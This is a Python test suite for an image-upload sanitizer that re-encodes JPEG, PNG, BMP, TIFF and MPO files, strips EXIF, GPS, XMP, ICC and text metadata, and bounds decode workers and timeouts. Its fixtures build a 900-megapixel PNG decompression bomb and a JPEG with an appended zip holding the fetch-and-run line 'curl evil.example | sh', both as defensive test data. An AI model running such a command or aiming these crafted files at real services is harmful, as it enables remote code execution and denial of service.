"""The ingestion service's image check: decoded in bounded worker threads, re-encoded from pixels.

Every fixture is made here with Pillow, numpy or by hand; no binary file is committed.
"""

from __future__ import annotations

import asyncio
import io
import struct
import threading
import time
import zipfile
import zlib
from typing import Any

import numpy as np
import pytest
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin

from edgeway.common.media import ImageFormat, MediaRejected, inspect_image
from edgeway.ingestion import images
from edgeway.ingestion.images import CleanImage, ImageLimits, ImageSanitizer

RED = (220, 20, 20)
BLUE = (20, 20, 220)


def saved(image: Image.Image, pillow_format: str, **params: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, pillow_format, **params)
    return out.getvalue()


def opened(clean: CleanImage) -> Image.Image:
    image = Image.open(io.BytesIO(clean.data))
    image.load()
    return image


def close_to(pixel: Any, expected: tuple[int, ...], tolerance: int = 12) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, expected, strict=True))


def noise_jpeg(width: int, height: int) -> bytes:
    pixels = np.random.default_rng(7).integers(0, 256, (height, width, 3), dtype=np.uint8)
    return saved(Image.fromarray(pixels), "JPEG", quality=95)


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(kind + payload))
    return struct.pack(">I", len(payload)) + kind + payload + crc


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """~110 KB of real PNG that inflates to 30000x30000 (900 MP) 1-bit pixels."""
    side = 30_000
    rows = bytes(1 + (side + 7) // 8) * 1000  # 1000 black rows, filter byte 0
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(rows) for _ in range(side // 1000)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("pillow_format", "output", "extension", "content_type"),
    [
        ("JPEG", ImageFormat.JPEG, "jpg", "image/jpeg"),
        ("PNG", ImageFormat.PNG, "png", "image/png"),
        ("BMP", ImageFormat.PNG, "png", "image/png"),
        ("TIFF", ImageFormat.PNG, "png", "image/png"),
    ],
)
async def test_jpeg_stays_jpeg_and_the_rest_becomes_png(
    pillow_format: str, output: ImageFormat, extension: str, content_type: str
) -> None:
    clean = await ImageSanitizer().clean(saved(Image.new("RGB", (40, 30), RED), pillow_format))
    assert (clean.format, clean.extension, clean.content_type) == (output, extension, content_type)
    assert clean.source_format is ImageFormat(pillow_format.lower())
    image = opened(clean)
    assert image.format == output.pillow_format
    assert (image.size, clean.width, clean.height) == ((40, 30), 40, 30)
    assert close_to(image.getpixel((20, 15)), RED)


async def test_a_png_named_jpg_comes_out_as_png() -> None:
    # PNG bytes uploaded as "photo.jpg" with Content-Type image/jpeg: only the bytes count.
    clean = await ImageSanitizer().clean(saved(Image.new("RGB", (8, 8), RED), "PNG"))
    assert (clean.source_format, clean.format, clean.extension) == (
        ImageFormat.PNG,
        ImageFormat.PNG,
        "png",
    )


async def test_a_decompression_bomb_never_reaches_a_worker(
    bomb: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    workers: list[bytes] = []
    monkeypatch.setattr(images, "reencode_image", lambda data, **_: workers.append(data))
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)  # ours is the check that counts
    started = time.perf_counter()
    with pytest.raises(MediaRejected) as refused:
        await ImageSanitizer().clean(bomb)
    assert time.perf_counter() - started < 1.0
    assert refused.value.code == "decompression_bomb"
    assert "30000x30000" in refused.value.reason
    assert workers == []


def test_the_worker_function_refuses_a_bomb_by_itself(bomb: bytes) -> None:
    with pytest.raises(MediaRejected) as refused:
        images.reencode_image(bomb, limits=ImageLimits())
    assert refused.value.code == "decompression_bomb"


@pytest.mark.parametrize("pillow_format", ["JPEG", "PNG"])
async def test_a_truncated_image_passes_the_header_check_but_not_the_decode(
    pillow_format: str,
) -> None:
    pixels = np.random.default_rng(7).integers(0, 256, (128, 128, 3), dtype=np.uint8)
    whole = saved(Image.fromarray(pixels), pillow_format)  # noise: the pixel data dominates
    truncated = whole[: len(whole) // 2]
    inspect_image(truncated, max_pixels=ImageLimits().max_pixels)  # the edge cannot tell
    with pytest.raises(MediaRejected) as refused:
        await ImageSanitizer().clean(truncated)
    assert refused.value.code == "corrupt"


async def test_exif_gps_xmp_icc_and_comments_do_not_survive() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyPhone"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.5),
    }
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    upload = saved(
        Image.new("RGB", (32, 32), RED),
        "JPEG",
        exif=exif,
        comment=b"secret-comment",
        xmp=b"<x:xmpmeta>secret-xmp</x:xmpmeta>",
        icc_profile=icc,
    )
    source = Image.open(io.BytesIO(upload))  # the fixture really carries all of it
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert {"exif", "comment", "xmp", "icc_profile"} <= source.info.keys()

    clean = await ImageSanitizer().clean(upload)
    image = opened(clean)
    assert not image.getexif()
    assert not {"exif", "comment", "xmp", "icc_profile"} & image.info.keys()
    for secret in (b"SpyPhone", b"secret-comment", b"secret-xmp", b"Exif\x00\x00", icc[36:40]):
        assert secret not in clean.data


async def test_a_zip_appended_to_a_jpeg_is_gone() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("payload.sh", "curl evil.example | sh")
    polyglot = saved(Image.new("RGB", (32, 32), RED), "JPEG") + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))

    clean = await ImageSanitizer().clean(polyglot)
    assert b"PK\x03\x04" not in clean.data
    assert b"payload.sh" not in clean.data
    assert not zipfile.is_zipfile(io.BytesIO(clean.data))
    assert close_to(opened(clean).getpixel((16, 16)), RED)


async def test_png_text_chunks_are_gone() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret-text")
    info.add_text("Software", "secret-ztxt", zip=True)
    info.add_itxt("Description", "secret-itxt", lang="en")
    upload = saved(Image.new("RGB", (16, 16), BLUE), "PNG", pnginfo=info)
    for chunk in (b"tEXt", b"zTXt", b"iTXt"):
        assert chunk in upload

    clean = await ImageSanitizer().clean(upload)
    for chunk in (b"tEXt", b"zTXt", b"iTXt", b"secret-text", b"secret-itxt"):
        assert chunk not in clean.data
    assert opened(clean).text == {}  # type: ignore[attr-defined]


async def test_exif_orientation_is_applied() -> None:
    # Left half red, right half blue, stored sideways: orientation 6 means "turn 90° clockwise".
    sideways = Image.new("RGB", (20, 10), RED)
    sideways.paste(BLUE, (10, 0, 20, 10))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    clean = await ImageSanitizer().clean(saved(sideways, "JPEG", exif=exif, quality=95))
    image = opened(clean)
    assert (image.size, clean.width, clean.height) == ((10, 20), 10, 20)
    assert close_to(image.getpixel((5, 2)), RED, tolerance=40)  # the left side is now on top
    assert close_to(image.getpixel((5, 17)), BLUE, tolerance=40)


async def test_a_multi_page_tiff_gives_its_first_page() -> None:
    first, second = Image.new("RGB", (16, 12), RED), Image.new("RGB", (8, 8), BLUE)
    upload = saved(first, "TIFF", save_all=True, append_images=[second])
    assert getattr(Image.open(io.BytesIO(upload)), "n_frames", 1) == 2

    image = opened(await ImageSanitizer().clean(upload))
    assert image.size == (16, 12)
    assert not getattr(image, "is_animated", False)
    assert close_to(image.getpixel((8, 6)), RED, tolerance=0)


async def test_a_phone_multi_picture_jpeg_gives_one_jpeg() -> None:
    primary, depth = Image.new("RGB", (24, 16), RED), Image.new("RGB", (24, 16), BLUE)
    upload = saved(primary, "MPO", save_all=True, append_images=[depth])
    assert Image.open(io.BytesIO(upload)).format == "MPO"

    clean = await ImageSanitizer().clean(upload)
    image = opened(clean)
    assert (clean.format, image.format) == (ImageFormat.JPEG, "JPEG")
    assert clean.data.count(b"\xff\xd8") == 1  # one picture, not two
    assert close_to(image.getpixel((12, 8)), RED)


async def test_a_cmyk_jpeg_comes_out_rgb() -> None:
    upload = saved(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG")  # red in print inks
    image = opened(await ImageSanitizer().clean(upload))
    assert image.mode == "RGB"
    assert close_to(image.getpixel((8, 8)), (255, 0, 0))


async def test_a_palette_png_keeps_its_transparency() -> None:
    palette = Image.new("P", (8, 8), 1)
    palette.putpalette([0, 0, 0, *RED] + [0] * (256 - 2) * 3)
    palette.paste(0, (0, 0, 4, 8))  # left half: colour 0, declared transparent
    image = opened(await ImageSanitizer().clean(saved(palette, "PNG", transparency=0)))
    assert image.mode == "RGBA"
    assert image.getpixel((1, 4))[3] == 0  # type: ignore[index]
    assert image.getpixel((6, 4)) == (*RED, 255)


async def test_a_16_bit_png_is_scaled_not_clipped() -> None:
    levels = np.array([[0, 0x8000, 0xFFFF]], dtype=np.uint16).repeat(4, axis=0)
    upload = saved(Image.fromarray(levels), "PNG")
    image = opened(await ImageSanitizer().clean(upload))
    assert image.mode == "L"
    assert [image.getpixel((x, 0)) for x in range(3)] == [0, 128, 255]


async def test_a_slow_decode_is_refused_with_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    finished = threading.Event()
    real = images.reencode_image

    def watched(data: bytes, *, limits: ImageLimits) -> CleanImage:
        try:
            return real(data, limits=limits)
        finally:
            finished.set()

    monkeypatch.setattr(images, "reencode_image", watched)
    sanitizer = ImageSanitizer(ImageLimits(decode_timeout_s=0.01))
    with pytest.raises(MediaRejected) as refused:
        await sanitizer.clean(noise_jpeg(3000, 2000))
    assert refused.value.code == "timeout"
    assert not finished.is_set()  # refused while the thread was still decoding
    assert await asyncio.to_thread(finished.wait, 30)


class Overlap:
    """Counts worker threads inside the decode at once, around the real worker function."""

    def __init__(self, hold_s: float) -> None:
        self.hold_s = hold_s
        self.lock = threading.Lock()
        self.inside = 0
        self.most = 0
        self.spans: list[tuple[float, float]] = []
        self.real = images.reencode_image

    def __call__(self, data: bytes, *, limits: ImageLimits) -> CleanImage:
        with self.lock:
            self.inside += 1
            self.most = max(self.most, self.inside)
        started = time.perf_counter()
        try:
            time.sleep(self.hold_s)
            return self.real(data, limits=limits)
        finally:
            with self.lock:
                self.inside -= 1
                self.spans.append((started, time.perf_counter()))


@pytest.mark.parametrize("workers", [1, 2])
async def test_decodes_never_exceed_the_worker_bound(
    workers: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    overlap = Overlap(hold_s=0.1)
    monkeypatch.setattr(images, "reencode_image", overlap)
    sanitizer = ImageSanitizer(ImageLimits(workers=workers))
    upload = saved(Image.new("RGB", (16, 16), RED), "PNG")
    cleaned = await asyncio.gather(*(sanitizer.clean(upload) for _ in range(4)))
    assert len(cleaned) == 4
    assert overlap.most == workers  # with 2 the counter does see overlap: it can tell


async def test_a_timed_out_decode_keeps_its_slot_until_its_thread_ends(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    overlap = Overlap(hold_s=0.4)
    monkeypatch.setattr(images, "reencode_image", overlap)
    sanitizer = ImageSanitizer(ImageLimits(workers=1, decode_timeout_s=0.1))
    upload = saved(Image.new("RGB", (16, 16), RED), "PNG")

    started = time.perf_counter()
    with pytest.raises(MediaRejected) as refused:
        await sanitizer.clean(upload)
    assert refused.value.code == "timeout"
    assert time.perf_counter() - started < 0.35  # the client did not wait for the thread

    overlap.hold_s = 0.0
    await sanitizer.clean(upload)
    (_, first_end), (second_start, _) = sorted(overlap.spans)
    assert second_start >= first_end  # it waited for the abandoned thread to finish
    assert overlap.most == 1


async def test_encode_frame_round_trips() -> None:
    height, width = 48, 64
    ramp = np.linspace(0, 255, width, dtype=np.uint8)
    rgb = np.stack([np.tile(ramp, (height, 1))] * 3, axis=-1)
    rgb[:, :, 2] = 128
    clean = await ImageSanitizer().encode_frame(rgb)
    assert (clean.format, clean.extension, clean.content_type) == (
        ImageFormat.JPEG,
        "jpg",
        "image/jpeg",
    )
    image = opened(clean)
    assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (width, height))
    assert (clean.width, clean.height) == (width, height)
    difference = np.abs(np.asarray(image).astype(int) - rgb.astype(int))
    assert difference.mean() < 3


@pytest.mark.parametrize(
    "frame",
    [
        pytest.param(np.zeros((8, 8, 3), np.float32), id="float"),
        pytest.param(np.zeros((8, 8), np.uint8), id="grey"),
        pytest.param(np.zeros((8, 8, 4), np.uint8), id="rgba"),
        pytest.param(np.zeros((0, 8, 3), np.uint8), id="empty"),
    ],
)
async def test_encode_frame_refuses_what_is_not_an_rgb_frame(frame: Any) -> None:
    with pytest.raises(ValueError, match="HxWx3 uint8"):
        await ImageSanitizer().encode_frame(frame)


async def test_truncated_images_stay_refused_even_if_pillow_is_told_to_pad_them(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    whole = noise_jpeg(128, 128)
    with pytest.raises(RuntimeError, match="LOAD_TRUNCATED_IMAGES"):
        await ImageSanitizer().clean(whole[: len(whole) // 2])


@pytest.mark.parametrize(
    "limits",
    [
        {"max_pixels": 0},
        {"decode_timeout_s": 0},
        {"workers": 0},
        {"jpeg_quality": 100},
        {"png_compress_level": 10},
    ],
)
def test_nonsense_limits_are_refused(limits: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="must"):
        ImageLimits(**limits)
